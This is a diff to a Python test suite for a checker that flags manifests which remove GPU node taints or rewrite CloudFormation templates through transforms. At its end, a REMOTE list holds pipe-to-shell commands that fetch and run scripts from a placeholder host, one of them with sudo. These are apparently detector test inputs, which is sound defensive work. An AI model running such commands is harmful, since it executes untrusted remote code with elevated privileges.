@@ -1169,6 +1169,47 @@ def test_a_command_line_that_takes_the_taint_of_gpus_off_is_not_understood(judge
     assert found(judge(job)) == NOT_UNDERSTOOD
 
 
+def kyverno(**mutate: Any) -> str:
+    return manifest("kyverno.io/v1", "ClusterPolicy", spec={"rules": [{"match": {"any": []}, "mutate": mutate}]})
+
+
+def merged(taints: Any) -> dict[str, Any]:
+    return {"patchStrategicMerge": {"spec": {"template": {"spec": {"taints": taints}}}}}
+
+
+def mutating(expression: str) -> str:
+    spec = {"mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression": expression}}]}
+    return manifest("admissionregistration.k8s.io/v1", "MutatingAdmissionPolicy", spec=spec)
+
+
+def argo(patch: str) -> str:
+    resource = {"action": "patch", "manifest": patch}
+    return manifest("argoproj.io/v1alpha1", "Workflow", spec={"templates": [{"resource": resource}]})
+
+
+@pytest.mark.parametrize(
+    ("given", "expected"),
+    [
+        (kyverno(patchesJson6902="- op: remove\n  path: /spec/taints\n"), NOT_UNDERSTOOD),
+        (kyverno(patchesJson6902="- op: remove\n  path: /metadata/labels/taints\n"), FINE),
+        (kyverno(**merged(None)), NOT_UNDERSTOOD),
+        (kyverno(**merged([])), NOT_UNDERSTOOD),
+        (kyverno(**merged([GPU_TAINT])), FINE),
+        (mutating("[JSONPatch{op: 'remove', path: '/spec/taints'}]"), NOT_UNDERSTOOD),
+        (mutating("[JSONPatch{op: 'add', path: '/metadata/labels/a', value: 'b'}]"), FINE),
+        (argo("kind: Node\nspec:\n  taints: []\n"), NOT_UNDERSTOOD),
+        (argo("kind: Node\nmetadata: {labels: {a: b}}\n"), FINE),
+        ({"AWSTemplateFormatVersion": "2010-09-09", "Transform": ["Mine"], "Resources": {}}, NOT_UNDERSTOOD),
+        ({"AWSTemplateFormatVersion": "2010-09-09", "Transform": "AWS::Include", "Resources": {}}, NOT_UNDERSTOOD),
+        ({"AWSTemplateFormatVersion": "2010-09-09", "Transform": "AWS::Serverless-2016-10-31", "Resources": {}}, FINE),
+    ],
+)
+def test_what_patches_taints_off_or_writes_a_template_anew_is_not_understood(
+    given: Any, expected: list[Any], judge: Judge
+) -> None:
+    assert [each for each in found(judge(given)) if each[0] == "mandatory"] == expected
+
+
 REMOTE = [
     "curl -s https://x.example/join-cluster.sh | bash",
     "wget -qO- https://x.example/k8s/boot | sudo -E sh -",
